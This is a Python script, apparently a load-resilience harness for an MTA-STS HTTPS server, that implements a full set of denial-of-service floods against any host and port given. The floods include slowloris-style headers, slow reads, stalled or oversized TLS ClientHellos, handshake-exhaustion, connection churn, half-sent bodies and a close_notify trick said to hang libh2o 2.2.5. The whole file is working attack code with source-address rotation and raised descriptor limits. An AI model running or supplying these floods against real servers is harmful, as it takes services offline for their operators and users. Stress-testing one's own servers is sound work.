#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Floods of one server: usage: floods.py KIND HOST PORT CONNECTIONS SECONDS [SOURCE...]

So many connections at a time, each replaced when it ends, for so long or until SIGTERM. Prints
"ready" when each has been tried once, and at the end how many there were. The server's name is
example's; HOST is its address. A KIND of SIZED is followed by "-" and a number of bytes, such as
header-400000; "plain-" before it leaves TLS out.
"""

import asyncio
import functools
import itertools
import json
import resource
import signal
import socket
import ssl
import sys
import time

from wire import CLOSE_NOTIFY, FATAL, TlsClient, alert, client_hello, reset, server_name

NAME = "mta-sts.example.com"
REQUEST_LINE = "{} /.well-known/mta-sts.txt HTTP/1.1\r\nHost: " + NAME + "\r\n"
REQUEST_START = (REQUEST_LINE.format("GET") + "X: ").encode()
CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CONTEXT.check_hostname = False
CONTEXT.verify_mode = ssl.CERT_NONE
HELLO = client_hello(server_name(NAME.encode()))
CLAIMED_HELLO = bytes.fromhex("16030100640101ffff") + bytes(96)  # a ClientHello of 131,071 bytes
IP_BIND_ADDRESS_NO_PORT = 24
CONNECT_TIMEOUT_S = 10
SLOW_READ_S = 60


async def shake(loop, connection):
    """Through the handshake; returns the client, whose Finished has been sent."""
    client = TlsClient(CONTEXT, NAME)
    while not client.shake():
        await loop.sock_sendall(connection, client.to_send())
        client.receive(await loop.sock_recv(connection, 65536))
    await loop.sock_sendall(connection, client.to_send())
    return client


async def held(loop, connection):
    """Until the server has enough of it; what comes is thrown away."""
    while await loop.sock_recv(connection, 65536):
        pass


async def idle(loop, connection):
    """Not a byte."""
    await held(loop, connection)


async def half_hello(loop, connection):
    await loop.sock_sendall(connection, HELLO[:len(HELLO) // 2])
    await held(loop, connection)


async def claimed_hello(loop, connection):
    """A ClientHello that says how long it will be, and stops."""
    await loop.sock_sendall(connection, CLAIMED_HELLO)
    await held(loop, connection)


async def no_finished(loop, connection):
    """The server has done its part of a handshake, and waits."""
    await loop.sock_sendall(connection, HELLO)
    await held(loop, connection)


async def close_notify(loop, connection):
    """A close_notify inside the handshake with a byte behind it: libh2o 2.2.5 turned for ever."""
    await loop.sock_sendall(connection, HELLO)
    await loop.sock_recv(connection, 65536)
    await loop.sock_sendall(connection, alert(FATAL, CLOSE_NOTIFY) + b"x")
    await held(loop, connection)


async def slow_headers(loop, connection):
    """A request that never ends, a byte each second."""
    client = await shake(loop, connection)
    await loop.sock_sendall(connection, client.encrypt(REQUEST_START))
    while True:
        await asyncio.sleep(1)
        await loop.sock_sendall(connection, client.encrypt(b"x"))


async def slow_read(loop, connection):
    """A fetch whose answer is not read."""
    client = await shake(loop, connection)
    await loop.sock_sendall(connection, client.encrypt(REQUEST_START + b"\r\n\r\n"))
    await asyncio.sleep(SLOW_READ_S)


async def connections(_loop, connection):
    """Opened, held for a second, closed."""
    await asyncio.sleep(1)
    connection.close()


async def churn(_loop, connection):
    """The same, five times as often."""
    await asyncio.sleep(0.2)
    connection.close()


async def handshakes(loop, connection):
    """The server computes its part of a handshake, the attacker nothing of his."""
    await loop.sock_sendall(connection, HELLO)
    await loop.sock_recv(connection, 65536)


async def resets(loop, connection):
    """Reset after the handshake."""
    await shake(loop, connection)
    reset(connection)


async def header(loop, connection, size, is_plain):
    """A header that does not end."""
    await ask_for_nothing(loop, connection, REQUEST_START + b"a" * size, is_plain)


async def half_body(loop, connection, size, is_plain):
    """A body of so many bytes, of which the second half does not come."""
    start = REQUEST_LINE.format("POST") + f"Content-Length: {size}\r\n\r\n"
    await ask_for_nothing(loop, connection, start.encode() + b"a" * (size // 2), is_plain)


async def half_report(loop, connection, size, is_plain):
    """The same of a TLS report, whose body has more time."""
    start = f"POST /tlsrpt HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: {size}\r\n\r\n"
    await ask_for_nothing(loop, connection, start.encode() + b"{" * (size // 2), is_plain)


async def ask_for_nothing(loop, connection, sent, is_plain):
    """Sends half of a request and waits."""
    if not is_plain:
        sent = (await shake(loop, connection)).encrypt(sent)
    await loop.sock_sendall(connection, sent)
    await held(loop, connection)


def by_name(*kinds):
    return {kind.__name__.replace("_", "-"): kind for kind in kinds}


KINDS = by_name(idle, half_hello, claimed_hello, no_finished, close_notify, slow_headers, slow_read,
                connections, churn, handshakes, resets)
SIZED = by_name(header, half_body, half_report)


def kind_of(name):
    if name in KINDS:
        return KINDS[name]
    sized, _, size = name.removeprefix("plain-").rpartition("-")
    return functools.partial(SIZED[sized], size=int(size), is_plain=name.startswith("plain-"))


class Flood:
    def __init__(self, kind, address, sources):
        self.kind, self.address = kind, address
        self.sources = itertools.cycle(sources or [None])
        self.family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
        self.counts = {"connected": 0, "refused": 0, "ended": 0}
        self.n_tried = 0
        self.is_over = asyncio.Event()

    async def _connect(self, loop):
        connection = socket.socket(self.family, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        source = next(self.sources)
        try:
            if source:
                connection.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
                connection.bind((source, 0))
            await asyncio.wait_for(loop.sock_connect(connection, self.address), CONNECT_TIMEOUT_S)
        except BaseException:
            connection.close()
            raise
        return connection

    async def _live(self, loop):
        """One connection after the other."""
        is_first = True
        while not self.is_over.is_set():
            connection = None
            try:
                connection = await self._connect(loop)
                self.counts["connected"] += 1
                self.n_tried += is_first
                is_first = False
                await self.kind(loop, connection)
            except (OSError, asyncio.TimeoutError):
                self.counts["ended" if connection else "refused"] += 1
                self.n_tried += is_first
                is_first = False
                await asyncio.sleep(0.05)
            finally:
                if connection:
                    connection.close()

    async def run(self, n_connections, seconds):
        loop = asyncio.get_running_loop()
        loop.add_signal_handler(signal.SIGTERM, self.is_over.set)
        end = time.monotonic() + seconds
        tasks = [asyncio.create_task(self._live(loop)) for _ in range(n_connections)]
        ready_by = time.monotonic() + CONNECT_TIMEOUT_S + 5
        while self.n_tried < n_connections and time.monotonic() < ready_by:
            await asyncio.sleep(0.05)
        print("ready", flush=True)
        try:
            await asyncio.wait_for(self.is_over.wait(), max(end - time.monotonic(), 0.1))
        except asyncio.TimeoutError:
            self.is_over.set()
        for task in tasks:
            task.cancel()
        await asyncio.wait(tasks, timeout=CONNECT_TIMEOUT_S)
        print(json.dumps(self.counts), flush=True)


def main():
    kind, host, port, n_connections, seconds, *sources = sys.argv[1:]
    signal.alarm(int(seconds) + 2 * CONNECT_TIMEOUT_S)  # nobody has to end it
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(Flood(kind_of(kind), (host, int(port)), sources).run(
        min(int(n_connections), hard - 64), float(seconds)))


if __name__ == "__main__":
    main()
